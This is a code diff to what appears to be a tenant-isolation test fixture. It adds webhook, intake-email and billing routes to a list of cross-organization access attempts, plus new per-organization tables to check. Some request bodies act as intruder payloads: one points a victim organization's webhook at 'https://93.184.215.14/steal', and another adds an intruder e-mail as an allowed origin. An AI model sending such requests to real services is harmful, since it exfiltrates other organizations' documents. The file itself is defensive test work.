@@ -109,9 +109,45 @@ export const crossOrganizationRoutes: CrossOrganizationRoute[] = [
     method: 'GET',
     path: '/api/organizations/:organizationId/tagging-rules/:taggingRuleId/runs/:taggingRuleRunId',
   },
+  // Webhooks (`:webhookId` is a webhook of the victim organization, `:webhookDeliveryId` one of its deliveries)
+  { method: 'GET', path: '/api/organizations/:organizationId/webhooks' },
+  {
+    method: 'POST',
+    path: '/api/organizations/:organizationId/webhooks',
+    body: { name: 'Intruder hook', url: 'https://93.184.215.14/steal', events: ['document:created'] },
+  },
+  { method: 'GET', path: '/api/organizations/:organizationId/webhooks/:webhookId' },
+  {
+    method: 'PUT',
+    path: '/api/organizations/:organizationId/webhooks/:webhookId',
+    body: { url: 'https://93.184.215.14/steal', secret: '' },
+  },
+  { method: 'DELETE', path: '/api/organizations/:organizationId/webhooks/:webhookId' },
+  { method: 'GET', path: '/api/organizations/:organizationId/webhooks/:webhookId/deliveries' },
+  {
+    method: 'POST',
+    path: '/api/organizations/:organizationId/webhooks/:webhookId/deliveries/:webhookDeliveryId/redeliver',
+  },
+  { method: 'POST', path: '/api/organizations/:organizationId/webhooks/:webhookId/test' },
+  // Intake e-mail (`:intakeEmailId` is an address of the victim organization, with one logged message)
+  { method: 'GET', path: '/api/organizations/:organizationId/intake-emails' },
+  { method: 'POST', path: '/api/organizations/:organizationId/intake-emails' },
+  {
+    method: 'PUT',
+    path: '/api/organizations/:organizationId/intake-emails/:intakeEmailId',
+    body: { isEnabled: true, allowedOrigins: ['intruder@example.com'] },
+  },
+  { method: 'DELETE', path: '/api/organizations/:organizationId/intake-emails/:intakeEmailId' },
+  { method: 'GET', path: '/api/organizations/:organizationId/intake-emails/:intakeEmailId/messages' },
   // Plans and usage
   { method: 'GET', path: '/api/organizations/:organizationId/subscription' },
   { method: 'GET', path: '/api/organizations/:organizationId/usage' },
+  {
+    method: 'POST',
+    path: '/api/organizations/:organizationId/checkout-session',
+    body: { planId: 'plus', billingInterval: 'annual' },
+  },
+  { method: 'GET', path: '/api/organizations/:organizationId/customer-portal' },
 ];
 
 /** Tables holding an organization's data, and the column naming the organization. */
@@ -125,4 +161,11 @@ export const crossOrganizationSnapshotTables: Array<{ table: keyof Database; org
   { table: 'tags', organizationColumn: 'organization_id' },
   { table: 'tagging_rules', organizationColumn: 'organization_id' },
   { table: 'tagging_rule_runs', organizationColumn: 'organization_id' },
+  { table: 'webhooks', organizationColumn: 'organization_id' },
+  { table: 'webhook_messages', organizationColumn: 'organization_id' },
+  { table: 'webhook_deliveries', organizationColumn: 'organization_id' },
+  { table: 'intake_emails', organizationColumn: 'organization_id' },
+  { table: 'intake_email_messages', organizationColumn: 'organization_id' },
+  { table: 'organization_stripe_customers', organizationColumn: 'organization_id' },
+  { table: 'organization_subscriptions', organizationColumn: 'organization_id' },
 ];
